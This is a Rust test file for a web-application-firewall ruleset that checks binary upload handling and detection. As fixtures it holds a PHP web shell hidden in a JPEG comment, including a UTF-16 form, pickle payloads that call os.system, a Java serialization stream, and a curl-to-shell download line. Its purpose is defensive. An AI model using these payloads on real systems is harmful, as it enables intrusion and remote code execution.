//! Binary uploads with the built-in rules: compressed bytes (images, archives, fonts) pass at
//! every paranoia level that matters for uploads, whatever their size, while code hidden in a
//! file and binary serialization streams are still found.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use rulesets::{httpraw, load_builtin, CompiledRuleSet, EvalConfig, Limits, Part, Verdict};

/// Bytes that look like compressed data: xorshift64, the same for every run.
fn random(len: usize, seed: u64) -> Vec<u8> {
    let mut x = seed | 1;
    (0..len)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (x >> 24) as u8
        })
        .collect()
}

fn raw_post(ct: &str, body: &[u8]) -> Vec<u8> {
    let mut raw = format!(
        "POST /upload HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0\r\n\
         Accept: */*\r\nContent-Type: {ct}\r\nContent-Length: {}\r\n\r\n",
        body.len()
    )
    .into_bytes();
    raw.extend_from_slice(body);
    raw
}

/// `content` as the one file of a multipart form, beside a text field.
fn multipart(filename: &str, media: &str, content: &[u8]) -> Vec<u8> {
    let mut body = format!(
        "--b0undary\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nholiday\r\n\
         --b0undary\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"{filename}\"\r\n\
         Content-Type: {media}\r\n\r\n"
    )
    .into_bytes();
    body.extend_from_slice(content);
    body.extend_from_slice(b"\r\n--b0undary--\r\n");
    raw_post("multipart/form-data; boundary=b0undary", &body)
}

fn judge(rules: &CompiledRuleSet, raw: &[u8], paranoia: u8) -> Verdict {
    let limits = Limits {
        max_file_inspect: 2 << 20,
        ..Limits::default()
    };
    let req = httpraw::parse_request(raw, limits, 4 << 20);
    rules.evaluate(
        &req,
        &EvalConfig {
            paranoia,
            ..EvalConfig::default()
        },
    )
}

fn rule_ids(v: &Verdict) -> Vec<String> {
    v.matches.iter().map(|m| m.rule.id.clone()).collect()
}

#[test]
fn compressed_bytes_pass_as_bodies_and_as_files() {
    let rules = load_builtin().unwrap();
    // Before binary bodies were inspected as their text, 78 % of 400 real binary files
    // (images, fonts, object files) were blocked by one text pattern (`$x(`).
    for (seed, len) in [(1, 64 << 10), (2, 200 << 10), (3, 1 << 20), (4, 1 << 20)] {
        let bytes = random(len, seed);
        for raw in [
            raw_post("image/png", &bytes),
            raw_post("application/octet-stream", &bytes),
            multipart("IMG_0001.JPG", "image/jpeg", &bytes),
        ] {
            for paranoia in [1, 2] {
                let v = judge(&rules, &raw, paranoia);
                assert!(
                    v.matches.is_empty(),
                    "seed {seed}, {len} bytes, PL{paranoia}: {:?}",
                    v.matches
                );
            }
        }
    }
}

#[test]
fn code_hidden_in_binary_files_is_found() {
    let rules = load_builtin().unwrap();
    // A web shell in an image comment, between compressed bytes: as a form upload and as
    // the whole body of a PUT-style upload.
    let mut polyglot = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\xff\xfe\x00\x2b".to_vec();
    polyglot.extend_from_slice(b"<?php system($_GET['cmd']); ?>\x00");
    polyglot.extend(random(100 << 10, 7));
    for raw in [
        multipart("avatar.jpg", "image/jpeg", &polyglot),
        raw_post("image/jpeg", &polyglot),
    ] {
        let v = judge(&rules, &raw, 1);
        assert!(v.is_block(), "{:?}", v.matches);
        let m = v.matches.iter().find(|m| m.rule.id == "php-101");
        assert!(
            m.is_some_and(|m| m.target.starts_with("FILES_CONTENT")),
            "{:?}",
            v.matches
        );
    }
    // The same shell written in UTF-16 (NUL bytes between the characters) reads as text.
    let utf16: Vec<u8> = "<?php system($_GET['cmd']); ?>"
        .bytes()
        .flat_map(|b| [b, 0])
        .collect();
    let mut file = random(4096, 8);
    file.extend_from_slice(&utf16);
    file.extend(random(4096, 9));
    let v = judge(&rules, &multipart("a.gif", "image/gif", &file), 1);
    assert!(
        rule_ids(&v).iter().any(|r| r == "php-101"),
        "{:?}",
        v.matches
    );
}

#[test]
fn binary_serialization_streams_are_found_in_the_bytes() {
    let rules = load_builtin().unwrap();
    // A Java serialization stream (magic AC ED 00 05, then a class descriptor).
    let mut java = b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16\x60\xd1\x03\x00\x02F\x00\x0aloadFactor".to_vec();
    java.extend(random(2048, 10));
    // A protocol-4 pickle that imports posix.system (STACK_GLOBAL).
    let pickle = b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.";
    // The same streams deep inside a large binary body (a pickle stored in a model archive),
    // where the literal scan skips ahead with a SIMD searcher, and a protocol-0 pickle.
    let deep = |stream: &[u8], seed: u64| {
        let mut b = random(100_000, seed);
        b.extend_from_slice(stream);
        b.extend(random(30_000, seed + 1));
        b
    };
    let (deep_java, deep_pickle) = (deep(&java, 11), deep(pickle, 13));
    let pickle0 = deep(
        b"\x80\x02cos\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.",
        15,
    );
    for (body, rule) in [
        (&java[..], "java-114"),
        (&pickle[..], "generic-158"),
        (&deep_java[..], "java-114"),
        (&deep_pickle[..], "generic-158"),
        (&pickle0[..], "generic-158"),
    ] {
        let v = judge(&rules, &raw_post("application/octet-stream", body), 1);
        assert!(v.is_block(), "{rule}: {:?}", v.matches);
        let m = v.matches.iter().find(|m| m.rule.id == rule);
        assert_eq!(
            m.map(|m| m.target.as_str()),
            Some("BODY_BINARY"),
            "{rule}: {:?}",
            v.matches
        );
    }
}

#[test]
fn text_sent_as_binary_is_inspected_unchanged() {
    // A script uploaded as octet-stream holds no binary byte: `BODY` is the body itself,
    // and there is no `BODY_BINARY`.
    let script = b"#!/bin/sh\nexport A=1\n\t$(curl -s http://203.0.113.7/x.sh | sh)\r\n";
    let req = httpraw::parse_request(
        &raw_post("application/octet-stream", script),
        Limits::default(),
        1 << 20,
    );
    let parts: Vec<_> = req.body_items().iter().map(|i| i.part).collect();
    assert_eq!(parts, [Part::Body]);
    assert_eq!(req.value(&req.body_items()[0]), script);
    // With binary bytes, the body is inspected as one uploaded file's text
    // (`FILES_CONTENT`), and the bytes as received are `BODY_BINARY`.
    let mut bytes = random(1000, 11);
    bytes.extend_from_slice(script);
    let req = httpraw::parse_request(
        &raw_post("application/octet-stream", &bytes),
        Limits::default(),
        1 << 20,
    );
    let items = req.body_items();
    assert_eq!(
        items.iter().map(|i| i.part).collect::<Vec<_>>(),
        [Part::FileContent, Part::BodyBinary]
    );
    assert_eq!(req.label(&items[0]), "FILES_CONTENT");
    let text = req.value(&items[0]);
    assert!(
        text.ends_with(b"| sh)\r\n"),
        "{:?}",
        String::from_utf8_lossy(text)
    );
    assert!(text.len() < 400, "{}", text.len());
    assert_eq!(req.value(&items[1]), &bytes[..]);
    // A form with a binary file: `BODY` is the form without the file's content (the file
    // is `FILES_CONTENT`); a text file stays in `BODY`.
    let raw = multipart("x.bin", "application/octet-stream", &bytes);
    let req = httpraw::parse_request(&raw, Limits::default(), 1 << 20);
    let body = req
        .body_items()
        .iter()
        .find(|i| i.part == Part::Body)
        .map(|i| req.value(i))
        .unwrap();
    let body = String::from_utf8_lossy(body);
    assert!(body.contains("name=\"title\"\r\n\r\nholiday\r\n"), "{body}");
    assert!(
        body.contains("Content-Type: application/octet-stream\r\n\r\n\r\n--b0undary--"),
        "{body}"
    );
    assert!(req.body_items().iter().any(|i| i.part == Part::BodyBinary));
    let raw = multipart("x.sh", "text/x-sh", script);
    let req = httpraw::parse_request(&raw, Limits::default(), 1 << 20);
    assert!(req.body_items().iter().all(|i| i.part != Part::BodyBinary));
    // Text types are never cut down: binary bytes there are findings of their own.
    let req = httpraw::parse_request(&raw_post("text/plain", &bytes), Limits::default(), 1 << 20);
    assert!(req
        .body_items()
        .iter()
        .all(|i| req.value(i).len() == bytes.len()));
}
